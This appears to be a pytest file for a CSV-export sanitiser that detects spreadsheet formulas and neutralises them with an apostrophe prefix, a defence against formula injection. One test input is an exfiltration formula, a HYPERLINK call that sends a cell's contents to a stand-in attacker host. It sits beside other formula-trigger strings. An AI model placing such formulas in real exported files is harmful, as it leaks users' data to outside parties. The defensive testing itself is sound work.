"""Cells a spreadsheet would run as formulas are written so that it shows them as text."""

from __future__ import annotations

import csv
import io

import pytest

from crackdown import csvsafe


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"W")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\uff1d1+1",
        "=",
    ],
)
def test_a_formula_gets_an_apostrophe_and_keeps_its_text(cell: str) -> None:
    assert csvsafe.is_formula(cell)
    assert csvsafe.neutralise(cell) == "'" + cell
    assert csvsafe.formula_problem(cell) is not None


@pytest.mark.parametrize(
    "cell", ["", "Khmer Times", "3455", "-5", "+12.5", "1e3", "2025-07-27", " =1", "a=b", None]
)
def test_text_and_plain_numbers_are_left_as_they_are(cell: object) -> None:
    assert not csvsafe.is_formula(cell)
    assert csvsafe.neutralise(cell) == ("" if cell is None else str(cell))
    assert csvsafe.formula_problem(cell) is None


def test_a_neutralised_row_round_trips_through_csv_as_text() -> None:
    row = {"outlet": '=HYPERLINK("http://x","W")', "value": "-5", "quote": "@home"}
    out = io.StringIO()
    writer = csv.DictWriter(out, list(row), lineterminator="\n")
    writer.writeheader()
    writer.writerow(csvsafe.neutralise_row(row))
    back = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert back == {"outlet": '\'=HYPERLINK("http://x","W")', "value": "-5", "quote": "'@home"}
    assert csvsafe.neutralise_rows([["=1", "2"]]) == [["'=1", "2"]]
